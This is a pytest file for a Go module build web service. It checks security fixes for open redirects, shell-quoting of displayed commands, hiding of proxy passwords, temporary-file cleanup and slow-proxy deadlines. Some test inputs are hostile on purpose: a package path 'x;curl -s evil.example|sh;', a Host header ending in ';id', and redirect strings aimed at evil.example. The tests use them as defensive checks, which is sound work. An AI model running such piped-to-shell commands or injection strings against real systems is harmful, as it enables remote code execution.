"""The findings of issue 10 ("Safe to expose"), one test each: nothing a crafted URL, proxy or module
can turn against the server or its readers."""

from __future__ import annotations

import io
import os
import shlex
import socket
import threading
import time
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from flask import Flask
from flask.testing import FlaskClient

from gobuild import gocmd, goproxy
from gobuild.compiler import reproduce_command
from gobuild.failures import PermanentFailure, TemporaryFailure
from gobuild.spec import BuildSpec
from gobuild.web import create_app
from tests.conftest import GOVERSION, make_config
from tests.modproxy import ModuleProxy, hello_module

SECRET = "s3cretPassw0rd"


@pytest.fixture(scope="module")
def proxy() -> Iterator[ModuleProxy]:
    with ModuleProxy() as p:
        p.add("example.com/hello", "v1.0.0", hello_module("example.com/hello", "v1.0.0"))
        p.add("example.com/notzip", "v1.0.0", hello_module("example.com/notzip", "v1.0.0"))
        p.serve("/example.com/notzip/@v/v1.0.0.zip", b"this is not a zip file at all\n" * 10)
        p.add("example.com/dupzip", "v1.0.0", hello_module("example.com/dupzip", "v1.0.0"))
        p.serve("/example.com/dupzip/@v/v1.0.0.zip", _duplicate_zip("example.com/dupzip@v1.0.0/"))
        yield p


def _duplicate_zip(prefix: str) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z, pytest.warns(UserWarning):
        z.writestr(prefix + "go.mod", "module example.com/dupzip\n")
        z.writestr(prefix + "main.go", "package main\n\nfunc main() {}\n")
        z.writestr(prefix + "main.go", "package main\n\nfunc main() { println(1) }\n")
    return buf.getvalue()


@pytest.fixture(scope="module")
def app(proxy: ModuleProxy, tmp_path_factory: pytest.TempPathFactory, server_cache: Path) -> Flask:
    data = tmp_path_factory.mktemp("data")
    return create_app(make_config(data, proxy, cache_dir=str(server_cache)))


@pytest.fixture
def client(app: Flask) -> FlaskClient:
    return app.test_client()


def _spec(s: str) -> BuildSpec:
    from gobuild.targets import DEFAULT_TARGETS

    return BuildSpec.parse(s, set(DEFAULT_TARGETS))


# 4: open redirect ---------------------------------------------------------------------------


@pytest.mark.parametrize("m", ["/%09/evil.example", "//evil.example", "/\\evil.example", "\\\\evil.example",
                               "%09/evil.example", "https:/\\evil.example", "/%0D/evil.example"])
def test_module_form_never_redirects_off_site(client: FlaskClient, m: str) -> None:
    r = client.get(f"/?m={m}")
    if r.status_code in (301, 302, 303, 307, 308):
        location = r.headers["Location"]
        assert location.startswith("/") and not location.startswith(("//", "/\\")), location
        assert all(c.isprintable() and not c.isspace() and c != "\\" for c in location), location
    else:
        assert r.status_code == 404, r.status_code


def test_module_form_redirects_to_the_module(client: FlaskClient) -> None:
    r = client.get("/?m=https://example.com/hello")
    assert r.status_code == 307 and r.headers["Location"] == "/example.com/hello"


# 10: newline in ?m= -------------------------------------------------------------------------


def test_newline_in_module_form_is_a_404_not_a_traceback(client: FlaskClient) -> None:
    r = client.get("/?m=example.com/a%0Ab")
    assert r.status_code == 404
    assert "internal" not in r.get_data(as_text=True)


# Digits that are not ASCII ("²".isdigit() is true, int("²") raises) ---------------------------


SUPERSCRIPT_TWO = "\u00b2"


def test_non_ascii_digits_in_numbers_from_a_request_are_a_4xx_not_a_traceback(client: FlaskClient) -> None:
    live = _spec(f"example.com/hello@v1.0.0/linux-amd64-{GOVERSION}/").link() + "live"
    for path, headers in (("/tlog/tile/%C2%B2/000", {}), ("/tlog/tile/8/%C2%B2/000", {}),
                          ("/?count=%C2%B2", {"Accept": "application/json"}),
                          (live + "?offset=%C2%B2", {}), (live, {"Last-Event-ID": SUPERSCRIPT_TWO})):
        r = client.get(path, headers=headers)
        assert r.status_code < 500, (path, headers, r.status_code, r.get_data(as_text=True)[:300])


def test_non_ascii_digits_in_a_record_or_a_listen_address_are_refused_plainly() -> None:
    from gobuild.config import Config, ConfigError
    from gobuild.spec import Record, SpecError

    record = f"example.com/hello v1.0.0 / linux amd64 {GOVERSION} {SUPERSCRIPT_TWO} 0" + "A" * 27
    with pytest.raises(SpecError):
        Record.parse(record.encode())
    with pytest.raises(ConfigError):
        Config(listen=f"127.0.0.1:8{SUPERSCRIPT_TWO}").with_overrides()


# Only POST builds: a crawler following links never starts or retries one ------------------------


def test_get_or_head_of_start_or_retry_is_a_405_and_builds_nothing(app: Flask, client: FlaskClient) -> None:
    from gobuild.web.current import services_of

    spec = _spec(f"example.com/hello@v1.0.0/linux-riscv64-{GOVERSION}/")
    for page in ("start", "retry"):
        for method in ("GET", "HEAD"):
            r = client.open(spec.link() + page, method=method)
            assert r.status_code == 405, (page, method, r.status_code)
            assert r.headers["Allow"] == "POST", (page, method)
    assert services_of(app).coordinator.last(spec) is None  # nothing started


def test_the_original_s_events_url_starts_a_build_only_for_an_admitted_get(
        proxy: ModuleProxy, tmp_path: Path, server_cache: Path) -> None:
    # The original's build page starts its build through its EventSource: we keep that, but a bad client or one
    # over its limits is refused there as on the Start button, and a HEAD never starts one.
    from gobuild.web.current import services_of

    app = create_app(make_config(tmp_path / "data", proxy, cache_dir=str(server_cache),
                                 bad_clients=[{"networks": "127.0.0.0/8", "user_agent": "Crawler"}]))
    client = app.test_client()
    spec = _spec(f"example.com/hello@v1.0.0/linux-mips64-{GOVERSION}/")
    assert client.get(spec.link() + "events", headers={"User-Agent": "Crawler/1.0"}).status_code == 403
    assert client.head(spec.link() + "events").status_code == 200
    assert services_of(app).coordinator.last(spec) is None  # nothing started


# 6: package dir is an import path; commands are shell-quoted --------------------------------


def test_package_dir_must_be_an_import_path(client: FlaskClient) -> None:
    r = client.get(f"/example.com/hello@v1.0.0/x;curl%20-s%20evil.example%7Csh;/linux-amd64-{GOVERSION}/")
    assert r.status_code == 404, r.status_code
    assert "go install" not in r.get_data(as_text=True)  # no command to copy is rendered


def test_shown_commands_are_shell_quoted(app: Flask) -> None:
    evil = BuildSpec("example.com/hello", "v1.0.0", "/x;curl -s evil.example|sh;", "linux", "amd64", GOVERSION)
    with app.test_request_context("/", headers={"Host": "127.0.0.1:1;id"}):
        services = app.extensions["gobuild"]
        for cmd in (reproduce_command(evil, "http://127.0.0.1:1"),
                    services.get_command(evil, None, "127.0.0.1:1;id")):
            words = shlex.split(cmd)  # the shell sees the evil path as one word: nothing else runs
            assert words[-1] in (f"{evil.package}@{evil.version}", f"{evil.module}@{evil.version}{evil.dir}"), cmd
            assert not any(w in ("curl", "sh", "id") or w.startswith((";", "|")) for w in words), cmd


# 5: credentials in GOPROXY --------------------------------------------------------------------


def test_proxy_password_is_never_shown_or_logged(proxy: ModuleProxy, tmp_path: Path, server_cache: Path) -> None:
    # The proxy URL carries a password, as a private proxy's would (go refuses to send it over http,
    # so the build fails: its log and every page must still not show it).
    authed = proxy.url.replace("http://", f"http://gobuild:{SECRET}@")
    app = create_app(make_config(tmp_path / "data", proxy, goproxy=authed, cache_dir=str(server_cache)))
    client = app.test_client()
    assert SECRET not in client.get("/").get_data(as_text=True)
    spec = _spec(f"example.com/hello@v1.0.0/linux-amd64-{GOVERSION}/")
    page = client.get(spec.link()).get_data(as_text=True)
    assert SECRET not in page and "xxxxx" in page  # the reproduce command shows the redacted URL
    r = client.get(spec.link() + spec.download_filename())
    assert SECRET not in r.get_data(as_text=True)
    out = tmp_path / "log"
    with open(out, "w+b") as f, pytest.raises(Exception):  # noqa: B017 (any failure; the log is what counts)
        app.extensions["gobuild"].builder.build(spec.with_(goarch="arm64"), f)
    assert SECRET not in out.read_text()


# 7: temporary HOMEs and data/tmp ---------------------------------------------------------------


def test_go_commands_leave_no_temporary_home(client: FlaskClient, app: Flask) -> None:
    for _ in range(3):
        assert client.get("/example.com/hello@v1.0.0").status_code == 307
    assert client.get(f"/example.com/hello@v1.0.0/linux-arm64-{GOVERSION}/hello-v1.0.0-{GOVERSION}").status_code == 307
    time.sleep(1.5)  # a detached telemetry child of go would write its files meanwhile
    tmp = app.extensions["gobuild"].store.root / "tmp"
    left = [p for p in tmp.rglob("*") if p.is_file() or (p.is_dir() and p.name.startswith(("build-", "listpkgs-")))]
    assert left == [], left


def test_data_tmp_is_swept_at_start(proxy: ModuleProxy, tmp_path: Path, server_cache: Path) -> None:
    data = tmp_path / "data"
    (data / "tmp" / "cmds" / "build-x" / "go").mkdir(parents=True)
    (data / "tmp" / "cmds" / "build-x" / "go" / "f").write_bytes(b"x")
    (data / "tmp" / "w-leftover").write_bytes(b"half a binary")
    create_app(make_config(data, proxy, cache_dir=str(server_cache)))
    assert [p for p in (data / "tmp").rglob("*") if p.is_file()] == []


# 8: no space left, killed, timed out -> temporary ---------------------------------------------


@pytest.mark.parametrize("error", [
    gocmd.GoCommandError(["go"], 1, "go: writing stat cache: write /x: no space left on device\n"),
    gocmd.GoCommandError(["go"], 1, "compile: signal: killed\n"),
    gocmd.GoCommandError(["go"], -9, ""),
    gocmd.GoCommandError(["go"], 1, "fatal error: runtime: cannot allocate memory\n"),
    gocmd.GoTimeout(["go"], -9, "go command killed after 1s timeout"),
])
def test_resource_failures_are_temporary_and_not_stored(app: Flask, monkeypatch: pytest.MonkeyPatch,
                                                        error: Exception) -> None:
    services = app.extensions["gobuild"]
    spec = _spec(f"example.com/hello@v1.0.0/linux-386-{GOVERSION}/")
    real_run = gocmd.run

    def run(argv, env, cwd, timeout, log=None, **kw):  # type: ignore[no-untyped-def]
        if "install" in argv:
            raise error
        return real_run(argv, env, cwd, timeout, log, **kw)

    monkeypatch.setattr(gocmd, "run", run)
    with open(os.devnull, "wb") as out, pytest.raises(TemporaryFailure):
        services.builder.build(spec, out)
    assert services.store.failure(spec) is None


def test_full_disk_in_our_own_writes_is_temporary(app: Flask, monkeypatch: pytest.MonkeyPatch) -> None:
    services = app.extensions["gobuild"]
    spec = _spec(f"example.com/hello@v1.0.0/linux-mips-{GOVERSION}/")

    def full(*a: object, **kw: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(services.store, "put_blob_file", full)
    job = services.coordinator.start(spec)
    with pytest.raises(TemporaryFailure):
        job.wait(300)
    assert services.store.failure(spec) is None


# 10: module zips that can never be valid -> permanent, stored, 4xx ---------------------------


@pytest.mark.parametrize("mod", ["example.com/notzip", "example.com/dupzip"])
def test_invalid_module_zip_is_a_stored_permanent_failure(client: FlaskClient, app: Flask, proxy: ModuleProxy,
                                                         mod: str) -> None:
    spec = _spec(f"{mod}@v1.0.0/linux-amd64-{GOVERSION}/")
    r = client.get(spec.link() + spec.download_filename())
    assert r.status_code == 422, (r.status_code, r.get_data(as_text=True))
    assert app.extensions["gobuild"].store.failure(spec) is not None
    zips = sum(1 for p in proxy.requests if p.endswith(f"{mod}/@v/v1.0.0.zip"))
    r = client.get(spec.link() + spec.download_filename())
    assert r.status_code == 422
    assert sum(1 for p in proxy.requests if p.endswith(f"{mod}/@v/v1.0.0.zip")) == zips  # not fetched again


# 9: slow drips against the proxy client's deadline ---------------------------------------------


class _DripServer:
    """Answers every request with headers, then one byte of body every 0.2 s, for a minute
    (or, with head=True, drips the headers themselves)."""

    def __init__(self, head: bool = False) -> None:
        self.head = head
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.stop = threading.Event()
        threading.Thread(target=self._serve, daemon=True).start()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.sock.getsockname()[1]}"

    def _serve(self) -> None:
        while not self.stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            threading.Thread(target=self._drip, args=(conn,), daemon=True).start()

    def _drip(self, conn: socket.socket) -> None:
        with conn:
            try:
                conn.recv(4096)
                conn.sendall(b"HTTP/1.1 200 OK\r\n" + (b"X-Slow: " if self.head else b"Content-Length: 100000\r\n\r\n"))
                for _ in range(300):
                    if self.stop.wait(0.2):
                        return
                    conn.sendall(b" ")
            except OSError:
                return

    def close(self) -> None:
        self.stop.set()
        self.sock.close()


@pytest.mark.parametrize("what", ["info", "zip", "head"])
def test_proxy_client_deadline_holds_against_slow_drips(tmp_path: Path, what: str) -> None:
    server = _DripServer(head=what == "head")
    try:
        # .info must come within timeout, a zip within download_timeout, even one byte at a time.
        client = goproxy.GoProxyClient(server.url, timeout=30.0 if what == "zip" else 1.0,
                                       download_timeout=2.0 if what == "zip" else 60.0)
        started = time.monotonic()
        with pytest.raises(goproxy.ProxyUnavailable):
            if what in ("info", "head"):
                client.info("example.com/hello", "v1.0.0")
            else:
                client.zip("example.com/hello", "v1.0.0", tmp_path / "m.zip")
        assert time.monotonic() - started < 4.0
    finally:
        server.close()


# 10: /tlog/lookup of an invalid path ----------------------------------------------------------


@pytest.mark.parametrize("key", ["example.com/a;b@v1.0.0/linux-amd64-{go}/",
                                 "example.com/hello@v1.0.0/x;id/linux-amd64-{go}/",
                                 "Example.com/x@v1.0.0/linux-amd64-{go}/"])
def test_tlog_lookup_of_invalid_path_is_404_without_running_go(client: FlaskClient, monkeypatch: pytest.MonkeyPatch,
                                                               key: str) -> None:
    def no_go(*a: object, **kw: object) -> str:
        raise AssertionError("go must not run for an invalid path")

    monkeypatch.setattr(gocmd, "run", no_go)
    r = client.get("/tlog/lookup/" + key.format(go=GOVERSION))
    assert r.status_code == 404, (r.status_code, r.get_data(as_text=True))


def test_permanent_failure_class_is_4xx() -> None:
    assert PermanentFailure("x", "y").status < 500
